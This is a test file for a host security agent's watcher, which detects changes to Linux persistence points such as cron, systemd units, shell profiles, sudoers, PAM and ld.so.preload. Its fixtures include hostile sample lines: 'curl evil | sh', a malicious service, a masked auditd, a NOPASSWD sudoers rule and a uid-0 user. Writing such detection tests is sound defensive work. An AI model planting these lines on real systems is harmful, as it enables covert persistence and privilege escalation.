import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { ConfigurationChange } from '../records.ts'
import { listSafely } from '../safe-read.ts'
import type { ConfigurationWatch } from './configuration-watch.ts'
import { createRootFolder, startWatch } from './testing/watched-root.ts'

let watchOf: ConfigurationWatch | undefined
let folder: ReturnType<typeof createRootFolder>
beforeEach(() => {
  folder = createRootFolder()
  folder.put('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n')
  mkdirSync(folder.at('/home/alice'), { recursive: true })
})
afterEach(() => folder.remove())

const pause = (durationMs: number) => new Promise((resolve) => setTimeout(resolve, durationMs))
/** One word for each change. */
const short = (changes: readonly ConfigurationChange[]) =>
  changes.map((change) => {
    const action = change['event.action']
    if (action === 'service-state-changed') return `${change['cordon.operation']} ${change['service.name']}`
    if (action === 'scheduled-task-changed' || action === 'persistence-changed') {
      return `${change['cordon.persistence.kind']} ${change['event.type']}`
    }
    return 'service.name' in change ? `${action} ${change['service.name']}` : action
  })

test.each([
  ['/etc/crontab', 'cron'],
  ['/etc/cron.d/job', 'cron'],
  ['/etc/cron.daily/job', 'cron'],
  ['/var/spool/cron/crontabs/alice', 'cron'],
  ['/var/spool/cron/alice', 'cron'],
  ['/etc/anacrontab', 'cron'],
  ['/var/spool/cron/atjobs/a00001', 'at'],
  ['/etc/systemd/system/x.timer', 'timer'],
  ['/etc/init.d/x', 'init-script'],
  ['/etc/rc.local', 'init-script'],
  ['/etc/profile.d/x.sh', 'shell-profile'],
  ['/home/alice/.bashrc', 'shell-profile'],
  ['/root/.zshrc', 'shell-profile'],
  ['/etc/ld.so.preload', 'preload'],
  ['/etc/ld.so.conf.d/x.conf', 'preload'],
  ['/etc/pam.d/sshd', 'pam'],
  ['/etc/security/limits.d/x.conf', 'pam'],
  ['/home/alice/.pam_environment', 'pam'],
  ['/etc/udev/rules.d/99-x.rules', 'udev'],
  ['/etc/modprobe.d/x.conf', 'module-configuration'],
  ['/etc/modules', 'module-configuration'],
  ['/etc/sysctl.d/x.conf', 'sysctl-configuration'],
  ['/etc/ssh/sshd_config', 'ssh-configuration'],
  ['/home/alice/.ssh/rc', 'ssh-configuration'],
  ['/etc/sudoers', 'sudoers'],
  ['/etc/sudoers.d/x', 'sudoers'],
  ['/etc/xdg/autostart/x.desktop', 'desktop-autostart'],
  ['/home/alice/.config/autostart/x.desktop', 'desktop-autostart'],
])('%s is told as %s: when it comes, changes and goes, with what it held', async (path, kind) => {
  const watched = await startWatch(folder.root)
  folder.put(path, 'cd /tmp || {\nfirst\n')
  watched.tell(path, 'creation')
  await watched.changes(1)
  folder.put(path, 'cd /tmp || {\nsecond\n')
  watched.tell(path)
  await watched.changes(2)
  rmSync(folder.at(path))
  watched.tell(path, 'deletion')
  const changes = await watched.changes(3)
  expect(short(changes)).toEqual([`${kind} creation`, `${kind} change`, `${kind} deletion`])
  expect(changes[1]).toMatchObject({
    'file.path': folder.at(path),
    'cordon.change.before': 'cd /tmp || {\nfirst\n',
    'cordon.change.after': 'cd /tmp || {\nsecond\n',
  })
  expect(changes[0]).not.toHaveProperty(['cordon.change.before'])
  expect(changes[2]).not.toHaveProperty(['cordon.change.after'])
  await watched.stop()
})

test.each([
  '/etc/hosts',
  '/etc/passwd-',
  '/etc/cron.d/.placeholder',
  '/etc/cron.d/job.dpkg-new',
  '/var/spool/cron/crontabs/tmp.x1',
  '/var/spool/cron/atspool/a1',
  '/run/systemd/generator/x.service',
  '/run/systemd/transient/session-1.scope',
  '/etc/systemd/system/x.txt',
  '/home/alice/notes',
  '/home/nobody/.bashrc',
  '/srv/etc/crontab',
])('%s is no configuration', async (path) => {
  const watched = await startWatch(folder.root)
  folder.put(path, 'x')
  watched.tell(path, 'creation')
  expect(await watched.stop()).toEqual([])
})

test('units come, change and go; links enable and mask them; drop-ins change them', async () => {
  const watched = await startWatch(folder.root)
  const unit = '/etc/systemd/system/evil.service'
  const step = async (path: string, count: number, act: () => void) => {
    act()
    watched.tell(path, existsSync(folder.at(path)) ? 'creation' : 'deletion', { contentComplete: false })
    await watched.changes(count)
    await pause(40)
  }
  mkdirSync(folder.at('/etc/systemd/system/multi-user.target.wants'), { recursive: true })
  const wanted = '/etc/systemd/system/multi-user.target.wants/evil.service'
  await step(unit, 1, () => folder.put(unit, '[Service]\nExecStart=/tmp/x\n'))
  await step(unit, 2, () => folder.put(unit, '[Service]\nExecStart=/tmp/y\n'))
  await step(wanted, 3, () => symlinkSync(unit, folder.at(wanted)))
  const dropIn = '/etc/systemd/system/ssh.service.d/evil.conf'
  await step(dropIn, 4, () => folder.put(dropIn, '[Service]\nExecStartPre=/tmp/x\n'))
  await step(wanted, 5, () => rmSync(folder.at(wanted)))
  await step(unit, 6, () => rmSync(folder.at(unit)))
  const mask = '/etc/systemd/system/auditd.service'
  await step(mask, 7, () => symlinkSync('/dev/null', folder.at(mask)))
  await step(mask, 8, () => rmSync(folder.at(mask)))
  const alias = '/etc/systemd/system/sshd.service'
  await step(alias, 9, () => symlinkSync('/usr/lib/systemd/system/ssh.service', folder.at(alias)))
  const linked = '/etc/systemd/system/linked.service'
  await step(linked, 10, () => symlinkSync('/tmp/linked.service', folder.at(linked)))
  const mine = '/home/alice/.config/systemd/user/mine.timer'
  await step(mine, 11, () => folder.put(mine, '[Timer]\n'))
  expect(short(await watched.stop())).toEqual([
    'service-created evil.service',
    'service-modified evil.service',
    'enabled evil.service',
    'service-modified ssh.service',
    'disabled evil.service',
    'service-deleted evil.service',
    'masked auditd.service',
    'enabled auditd.service',
    'enabled ssh.service',
    'service-created linked.service',
    'timer creation',
  ])
})

test('a file that is renamed over another is a change of that one, and a folder that is moved brings its files', async () => {
  folder.put('/etc/cron.d/job', 'old\n')
  const watched = await startWatch(folder.root)
  folder.put('/tmp/new', 'new\n')
  renameSync(folder.at('/tmp/new'), folder.at('/etc/cron.d/job'))
  watched.tell('/etc/cron.d/job', 'rename', { previousPath: folder.at('/tmp/new') })
  await watched.changes(1)
  renameSync(folder.at('/etc/cron.d'), folder.at('/etc/away'))
  watched.tell('/etc/away', 'rename', { previousPath: folder.at('/etc/cron.d') })
  folder.put('/tmp/rules/a', 'x\n')
  mkdirSync(folder.at('/etc/udev'))
  renameSync(folder.at('/tmp/rules'), folder.at('/etc/udev/rules.d'))
  watched.tell('/etc/udev/rules.d', 'rename', { previousPath: folder.at('/tmp/rules') })
  expect(short(await watched.changes(3)).sort()).toEqual(['cron change', 'cron deletion', 'udev creation'])
  await watched.stop()
})

test('what only its owner may read is told without its content, save where there are no secrets', async () => {
  const watched = await startWatch(folder.root)
  folder.put('/etc/environment', 'TOKEN=secret\n', 0o600)
  watched.tell('/etc/environment', 'creation')
  folder.put('/etc/sudoers', 'alice ALL=(ALL) NOPASSWD: ALL\n', 0o440)
  watched.tell('/etc/sudoers', 'creation')
  folder.put(
    '/var/spool/cron/atjobs/a1',
    '#!/bin/sh\nTOKEN=secret; export TOKEN\ncd /root || {\n\t exit 1\n}\ndate\n',
    0o700,
  )
  watched.tell('/var/spool/cron/atjobs/a1', 'creation')
  const changes = await watched.changes(3)
  const after = changes.map((change) => 'cordon.change.after' in change && change['cordon.change.after'])
  expect(after).toEqual([
    expect.stringContaining('not told'),
    'alice ALL=(ALL) NOPASSWD: ALL\n',
    'cd /root || {\n\t exit 1\n}\ndate\n',
  ])
  await watched.stop()
})

test('of a long file the lines that differ are told', async () => {
  const lines = Array.from({ length: 5_000 }, (_, number) => `line ${number}`)
  folder.put('/etc/profile', lines.join('\n'))
  const watched = await startWatch(folder.root)
  folder.put('/etc/profile', lines.with(3_000, 'curl evil | sh').join('\n'))
  watched.tell('/etc/profile')
  expect(await watched.changes(1)).toMatchObject([
    {
      'cordon.change.before': '(3000 lines as before)\nline 3000\n(1999 lines as before)',
      'cordon.change.after': '(3000 lines as before)\ncurl evil | sh\n(1999 lines as before)',
    },
  ])
  await watched.stop()
})

test('a thousand changes of one file are a few looks, and the last state is told', async () => {
  const watched = await startWatch(folder.root)
  for (let number = 1; number <= 1_000; number++) {
    folder.put('/etc/cron.d/job', `${number}\n`)
    watched.tell('/etc/cron.d/job', number === 1 ? 'creation' : 'modification')
  }
  const changes = await watched.stop()
  expect(changes.at(-1)).toMatchObject({ 'cordon.change.after': '1000\n' })
  expect(changes.length).toBeLessThan(500)
  expect(watched.watch.counts().coalesced).toBe(1_000 - changes.length)
})

test('of several who wrote between two looks the last is told, and that there were several', async () => {
  const watched = await startWatch(folder.root)
  for (const [number, pid] of [11, 12, 12, 13].entries()) {
    folder.put('/etc/cron.d/job', `${number}\n`)
    watched.tell('/etc/cron.d/job', 'modification', { pid })
  }
  folder.put('/etc/cron.d/other', 'x\n')
  watched.tell('/etc/cron.d/other', 'creation', { pid: 14 })
  watched.tell('/etc/cron.d/other', 'modification', { pid: 14 })
  await watched.stop()
  const told = watched.records.map(({ process, attribution, change }) => [
    ...[process?.pid, attribution, 'cordon.change.after' in change && change['cordon.change.after']],
  ])
  expect(told).toEqual([
    [13, 'last-writer', '3\n'],
    [14, undefined, 'x\n'],
  ])
})

describe('hostile files', () => {
  test.each([
    ['zero bytes', (path: string) => writeFileSync(path, Buffer.alloc(100_000))],
    ['a line of 2 MB', (path: string) => writeFileSync(path, 'x'.repeat(2_000_000))],
    ['no UTF-8', (path: string) => writeFileSync(path, Buffer.from([0xff, 0xfe, 0x0a]))],
    ['a link to itself', (path: string) => symlinkSync(path, path)],
    ['a link to shadow', (path: string) => symlinkSync('/etc/shadow', path)],
    ['a FIFO', (path: string) => execFileSync('mkfifo', [path])],
    ['a socket or device', (path: string) => symlinkSync('/dev/zero', path)],
    ['a folder', (path: string) => mkdirSync(path)],
  ])('%s in place of a crontab is told, bounded, and blocks nothing', async (_, make) => {
    const watched = await startWatch(folder.root)
    mkdirSync(folder.at('/etc/cron.d'))
    make(folder.at('/etc/cron.d/job'))
    watched.tell('/etc/cron.d/job', 'creation')
    const changes = await watched.changes(1)
    expect(short(changes)).toEqual(['cron creation'])
    expect(JSON.stringify(changes).length).toBeLessThan(32_768)
    expect(JSON.stringify(changes)).not.toContain('root:')
    await watched.stop()
  })

  test('a link on the way to a file is not followed', async () => {
    const watched = await startWatch(folder.root)
    folder.put('/srv/user/x.service', 'secret')
    mkdirSync(folder.at('/home/alice/.config/systemd'), { recursive: true })
    symlinkSync(folder.at('/srv/user'), folder.at('/home/alice/.config/systemd/user'))
    watched.tell('/home/alice/.config/systemd/user/x.service', 'creation')
    expect(await watched.stop()).toEqual([])
  })

  test('files that vanish, and names that are not UTF-8, do no harm', async () => {
    const watched = await startWatch(folder.root)
    watched.tell('/etc/cron.d/gone', 'creation')
    const name = Buffer.concat([Buffer.from(folder.at('/etc/cron.d/caf')), Buffer.from([0xe9])])
    mkdirSync(folder.at('/etc/cron.d'))
    writeFileSync(name, 'evil\n')
    watched.tell('', 'creation', { path: new Uint8Array(name) })
    watched.tell('/etc/cron.d/\0', 'creation')
    watched.tell(`/etc/cron.d/${'x/'.repeat(5_000)}`, 'creation')
    expect(await watched.changes(1)).toMatchObject([
      { 'file.path': folder.at('/etc/cron.d/caf\ufffd'), 'cordon.change.after': 'evil\n' },
    ])
    expect(await watched.stop()).toHaveLength(1)
  })

  test('more files than there is room for are counted, and all is looked at again when a burst is over', async () => {
    const watched = await startWatch(folder.root, {
      limits: { filesMax: 60, pendingMax: 10, intervalMs: 5, settleMs: 10, rescanIntervalMs: 20 },
    })
    for (let number = 0; number < 100; number++) {
      folder.put(`/etc/cron.d/job${number}`, 'x\n')
      watched.tell(`/etc/cron.d/job${number}`, 'creation')
    }
    await watched.changes(60)
    const counts = watched.watch.counts()
    expect(counts.overflowed).toBeGreaterThan(50)
    expect(counts.files).toBeLessThanOrEqual(60)
    expect(counts.unwatched).toBeGreaterThan(0)
    await watched.stop()
  })
})

describe('across a restart', () => {
  const options = () => ({
    baselinePath: folder.at('/baseline.sqlite'),
    warn: (message: string) => warnings.push(message),
  })
  const warnings: string[] = []
  beforeEach(() => {
    warnings.length = 0
    folder.put('/etc/cron.d/job', 'old\n')
    folder.put('/etc/shadow', 'alice:$6$salt$hash:1:0:9:7:::\n', 0o600)
  })

  test('what changed while the agent was away is told without an actor, and once', async () => {
    const first = await startWatch(folder.root, options())
    folder.put('/etc/cron.d/seen', 'seen\n')
    first.tell('/etc/cron.d/seen', 'creation')
    await first.changes(1)
    await first.stop()
    folder.put('/etc/cron.d/job', 'new\n')
    folder.put('/etc/cron.d/more', 'more\n')
    rmSync(folder.at('/etc/cron.d/seen'))
    folder.put('/etc/shadow', 'alice:$6$salt$other:1:0:9:7:::\n', 0o600)
    const second = await startWatch(folder.root, options())
    expect(short(await second.stop()).sort()).toEqual([
      'cron change',
      'cron creation',
      'cron deletion',
      'user-modified',
    ])
    expect(second.records.every(({ process }) => process === null)).toBe(true)
    const third = await startWatch(folder.root, options())
    expect(await third.stop()).toEqual([])
    expect(warnings).toEqual([])
  })

  test('what is kept is for the agent alone, and holds no password', async () => {
    const watched = await startWatch(folder.root, options())
    await watched.stop()
    expect(statSync(folder.at('/baseline.sqlite')).mode & 0o777).toBe(0o600)
    expect(readFileSync(folder.at('/baseline.sqlite')).includes('$6$salt')).toBe(false)
  })

  test.each([
    ['is no database', () => writeFileSync(folder.at('/baseline.sqlite'), 'x'.repeat(10_000))],
    ['is far too long', () => truncateSync(folder.at('/baseline.sqlite'), 300 * 1024 * 1024)],
    [
      'holds other rows',
      () => {
        const script = `const D = require('better-sqlite3'); const d = new D(process.argv[1]);
          d.exec("UPDATE files SET state = '{\\"kind\\":\\"text\\"}'")`
        execFileSync(process.execPath, ['-e', script, folder.at('/baseline.sqlite')])
      },
    ],
  ])('a baseline that %s is begun anew, with a warning', async (_, damage) => {
    await (await startWatch(folder.root, options())).stop()
    damage()
    folder.put('/etc/cron.d/job', 'new\n')
    const watched = await startWatch(folder.root, options())
    expect(await watched.stop()).toEqual([])
    expect(warnings).toHaveLength(1)
    folder.put('/etc/cron.d/job', 'newer\n')
    const next = await startWatch(folder.root, options())
    expect(short(await next.stop())).toEqual(['cron change'])
  })
})

test('a container has a baseline of its own, and its links lead nowhere', async () => {
  const prefix = folder.at('/var/lib/container/merged')
  folder.put('/var/lib/container/merged/etc/passwd', 'root:x:0:0::/root:/bin/sh\n')
  folder.put('/host-secret', 'secret')
  const watched = await startWatch(folder.root, {
    locate: (path) =>
      path.startsWith(`${prefix}/`) ? { root: prefix, inside: path.slice(prefix.length) } : null,
  })
  watched.watch.addRoot(prefix)
  folder.put('/var/lib/container/merged/etc/passwd', 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n')
  watched.tell('/var/lib/container/merged/etc/passwd')
  symlinkSync('/', folder.at('/var/lib/container/merged/etc/cron.d'))
  watched.tell('/var/lib/container/merged/etc/cron.d/host-secret', 'creation')
  expect(await watched.changes(1)).toMatchObject([
    {
      'event.action': 'user-created',
      'user.target.name': 'evil',
      'file.path': `${prefix}/etc/passwd`,
    },
  ])
  watched.watch.removeRoot(prefix)
  expect(await watched.stop()).toHaveLength(1)
})

test('what changes while the baseline is taken is told, too', async () => {
  folder.put('/etc/crontab', 'old\n')
  for (let number = 0; number < 200; number++) folder.put(`/etc/cron.d/job${number}`, 'x\n')
  const starting = startWatch(folder.root, {
    // The last file to be read: the first ones are known by then.
    list: (root, inside, entriesMax) => {
      if (inside === '/etc/cron.d' && readFileSync(folder.at('/etc/crontab'), 'utf8') === 'old\n') {
        folder.put('/etc/crontab', 'new\n')
        watchOf?.observe({
          kind: 'file',
          timestampMs: 1,
          pid: 7,
          action: 'modification',
          path: folder.at('/etc/crontab'),
          previousPath: null,
          contentComplete: true,
        })
      }
      return listSafely(root, inside, entriesMax)
    },
    created: (watch) => {
      watchOf = watch
    },
  })
  const watched = await starting
  expect(await watched.changes(1)).toMatchObject([
    { 'cordon.change.before': 'old\n', 'cordon.change.after': 'new\n' },
  ])
  expect(watched.records[0]?.process).toEqual({ pid: 7, startTicks: null })
  await watched.stop()
})

test('a rescan after lost records tells what was missed, without an actor', async () => {
  folder.put('/etc/cron.d/job', 'old\n')
  const watched = await startWatch(folder.root)
  folder.put('/etc/cron.d/job', 'new\n')
  chmodSync(folder.at('/etc/cron.d/job'), 0o600)
  watched.watch.rescan()
  expect(short(await watched.changes(1))).toEqual(['cron change'])
  expect(watched.records[0]?.process).toBeNull()
  await watched.stop()
})
